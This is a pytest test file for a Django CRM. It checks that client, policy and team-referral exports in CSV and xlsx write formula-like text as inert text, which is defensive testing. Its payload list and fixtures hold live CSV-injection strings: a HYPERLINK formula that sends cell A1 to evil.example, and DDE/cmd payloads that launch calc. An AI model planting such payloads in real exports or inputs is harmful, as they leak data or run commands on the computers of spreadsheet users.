"""No export is a live formula (CSV/formula injection): text an agent typed that starts with
`=`, `+`, `-`, `@`, a tab or CR comes out as text in every .xlsx and .csv download (clients,
policies, team referrals), neutralised once in agentcrm.core.spreadsheets."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import openpyxl
import pytest
from django.urls import reverse

from agentcrm.core.spreadsheets import is_formula_like, write_csv, write_xlsx

from .factories import ClientFactory
from .policy_factories import PolicyFactory

# The usual payloads (OWASP's CSV injection list and friends).
PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"!A0")',
]
HARMLESS = ["王芳", "a=1", " =1", "13800138000", "上海市-浦东"]


def _xlsx(header, rows, footer=None) -> bytes:
    out = io.BytesIO()
    write_xlsx(out, title="t", header=header, rows=rows, footer=footer)
    return out.getvalue()


def _sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def test_the_rule_knows_the_triggers():
    assert all(is_formula_like(payload) for payload in PAYLOADS)
    assert not any(is_formula_like(text) for text in HARMLESS)
    assert (
        not is_formula_like(-5)
        and not is_formula_like(Decimal("-1.5"))
        and not is_formula_like(None)
    )


def test_xlsx_writes_every_payload_as_text_and_keeps_it_exact():
    content = _xlsx(["=head"], [[payload] for payload in PAYLOADS], footer=["@foot"])
    assert "<f>" not in _sheet_xml(content)  # no formula element anywhere
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    cells = [row[0] for row in sheet.iter_rows()]
    # (XML itself reads a stored CR back as LF.)
    expected = ["=head", *(payload.replace("\r", "\n") for payload in PAYLOADS), "@foot"]
    assert [cell.value for cell in cells] == expected
    assert all(cell.data_type == "s" for cell in cells)
    assert all(cell.quotePrefix for cell in cells)  # stays text when edited in Excel


def test_xlsx_leaves_numbers_dates_and_plain_text_alone():
    content = _xlsx(["a", "b", "c"], [[-5, datetime.date(2026, 1, 3), "王芳"]])
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    number, day, name = next(sheet.iter_rows(min_row=2))
    assert number.value == -5 and number.data_type == "n"
    assert day.value == datetime.datetime(2026, 1, 3)
    assert name.value == "王芳" and not name.quotePrefix


def test_csv_prefixes_every_payload_with_an_apostrophe():
    out = io.StringIO()
    write_csv(out, header=["-head", "b"], rows=[[payload, -5] for payload in PAYLOADS])
    rows = list(csv.reader(io.StringIO(out.getvalue().lstrip("\ufeff"), newline="")))
    assert rows[0] == ["'-head", "b"]
    assert [row[0] for row in rows[1:]] == ["'" + payload for payload in PAYLOADS]
    assert {row[1] for row in rows[1:]} == {"-5"}  # numbers are no text to neutralise
    for row in rows[1:]:
        assert not row[0].startswith(("=", "+", "-", "@", "\t", "\r"))


def _download(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


@pytest.mark.django_db
def test_the_client_and_policy_exports_hold_no_formula(as_user, owner):
    holder = ClientFactory(owner=owner, name='=HYPERLINK("http://evil.example","点我")')
    holder.address = "+1+1"
    holder.notes = "@SUM(1,1)"
    holder.save()
    PolicyFactory(holder=holder, product_name="=cmd|' /C calc'!A0")
    http = as_user(owner)
    for name in ("export_clients", "export_policies"):
        content = _download(http.get(reverse(f"imports:{name}")))
        assert "<f>" not in _sheet_xml(content)
        values = [
            cell
            for row in openpyxl.load_workbook(io.BytesIO(content)).active.values
            for cell in row
        ]
        assert holder.name in values and "+1+1" in values and "@SUM(1,1)" in values
    assert "=cmd|' /C calc'!A0" in values


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_team_export_holds_no_formula(as_user, manager, owner, fmt):
    owner.display_name = "=1+1"
    owner.save()
    response = as_user(manager).get(reverse("team_referrals:export", args=[fmt]))
    assert response.status_code == 200
    body = _download(response)
    if fmt == "csv":
        rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
        assert [row[0] for row in rows if "=1+1" in row[0]] == ["'=1+1"]
    else:
        assert "<f>" not in _sheet_xml(body)
        names = [row[0] for row in openpyxl.load_workbook(io.BytesIO(body)).active.values]
        assert "=1+1" in names
